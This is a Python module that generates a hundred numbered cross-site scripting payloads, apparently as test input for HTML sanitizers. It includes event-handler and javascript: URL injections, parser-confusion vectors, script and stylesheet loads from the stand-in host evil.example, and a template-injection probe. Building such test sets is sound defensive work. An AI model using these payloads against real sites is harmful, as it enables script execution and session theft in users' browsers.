"""A hundred texts that run as a script wherever they are taken for markup, each leaving a mark of its own."""

CODE = "window.ranN=1"
_TEMPLATES = (
    "<script>CODE</script>",
    "<img src=x onerror=CODE>",
    "<svg onload=CODE>",
    "<svg><animate onbegin=CODE attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.ranN=1</script>'></iframe>",
    "<iframe src=javascript:parent.ranN=1></iframe>",
    "<a href='javascript:CODE' autofocus onfocus=CODE>x</a>",
    "<template><script>CODE</script></template>",
    "<math><mtext></table><img src onerror=CODE></math>",
    "<details open ontoggle=CODE>",
    "<body onload=CODE>",
    "<input autofocus onfocus=CODE>",
    "<video><source onerror=CODE></video>",
    "<object data=javascript:CODE></object>",
    "<style>@import 'https://evil.example/N'</style>",
    "<link rel=stylesheet href=https://evil.example/N>",
    "<div hx-on:load='CODE' hx-get='/evil/N' hx-trigger='load'>",
    "<script src=//evil.example/N></script>",
    "<base href=https://evil.example/N/><script src=x></script>",
    "<meta http-equiv=refresh content='0;url=/evil/N'>",
    "<form action=/evil/N><button autofocus onfocus=CODE>",
    "<marquee onstart=CODE>",
    "{{ cycler.__init__.__globals__ }}${CODE}<b onclick=CODE>",
    "<x contenteditable onblur=CODE onfocus=CODE autofocus tabindex=0>",
    "<noscript><p title='</noscript><img src=x onerror=CODE>'>",
)
_BEFORE = ("", "\">'>", "</title></textarea></script>", "]]>--><!-->")
"""What ends the place that a text stands in: nothing, an attribute, an element of text, a comment."""

PAYLOADS = [
    (before + template.replace("CODE", CODE)).replace("N", str(number))
    for number, (before, template) in enumerate((b, t) for b in _BEFORE for t in _TEMPLATES)
]
